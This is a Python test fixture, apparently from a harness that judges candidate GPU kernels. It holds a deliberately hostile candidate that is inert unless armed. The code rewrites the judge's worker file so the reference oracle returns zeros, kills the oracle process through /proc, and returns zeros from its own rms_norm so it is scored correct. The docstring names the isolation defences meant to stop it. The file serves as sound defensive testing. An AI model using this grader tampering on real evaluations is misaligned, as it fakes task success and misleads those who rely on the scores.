"""A candidate that rewrites the harness on disk and has the oracle restarted on it. Its worker runs as the judge's
own user whenever the uid wall is not up (the root fallback, or kernelsmith run as a normal user), and every
worker imports `runners` from the project's own tree (runners/processes.py: `PYTHONPATH=PROJECT_ROOT`), which
that user can write. The candidate appends to `runners/worker.py` a wrapper that makes an oracle (package
`ks_baseline`) return zeros, then kills the running oracle (same uid: kill(2) is allowed). Its own evaluation ends
as the harness's fault; the judge starts a new oracle for the next one, from the rewritten file, and from then on
every candidate that returns zeros is "correct". It must be refused with later evaluations unharmed: candidates
must not be able to write what the judge and the oracle import (another uid, or a read-only mount namespace),
and the judge should spawn workers from a snapshot it verified (hashes of runners/ taken at start).

Inert as committed (it would damage whatever runs it): the test that runs it replaces the marker @ARMED@ in
its source by `armed`."""
import os
import signal
import sys

import torch
import triton
import triton.language as tl

_PATCH = '''

_ks_load = Server.load


def _ks_load_zeroed(self, req):
    info = _ks_load(self, req)
    if self.package == "ks_baseline" and self.fn is not None:
        fn = self.fn

        def zeroed(**kwargs):
            out = fn(**kwargs)
            if isinstance(out, torch.Tensor):
                return torch.zeros_like(out)
            return type(out)(torch.zeros_like(o) for o in out)

        self.fn = zeroed
    return info


Server.load = _ks_load_zeroed
'''


def _rewrite() -> None:
    path = sys.modules["__main__"].__file__  # the worker runs as `python -m runners.worker`
    with open(path) as f:
        text = f.read()
    anchor = '\nif __name__ == "__main__":'
    if "_ks_load_zeroed" not in text and anchor in text:
        with open(path, "w") as f:
            f.write(text.replace(anchor, _PATCH + anchor, 1))


def _kill_the_oracle() -> None:
    """The oldest other `runners.worker` child of our parent (the judge) is the oracle."""
    me, parent, oldest = os.getpid(), os.getppid(), None
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmd = f.read()
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if b"runners.worker" in cmd and int(fields[1]) == parent:
            started = int(fields[19])
            if oldest is None or started < oldest[0]:
                oldest = (started, int(entry))
    if oldest is not None:
        os.kill(oldest[1], signal.SIGKILL)


if "@ARMED@" == "armed":
    _rewrite()
    _kill_the_oracle()


@triton.jit
def _token_kernel(x_ptr, scratch_ptr):
    tl.store(scratch_ptr, tl.load(x_ptr))


def rms_norm(hidden_states, weight, eps=1e-6, residual=None):
    scratch = torch.empty(1, dtype=hidden_states.dtype, device=hidden_states.device)
    _token_kernel[(1,)](hidden_states, scratch)
    out = torch.zeros_like(hidden_states)
    return out if residual is None else (out, torch.zeros_like(hidden_states))
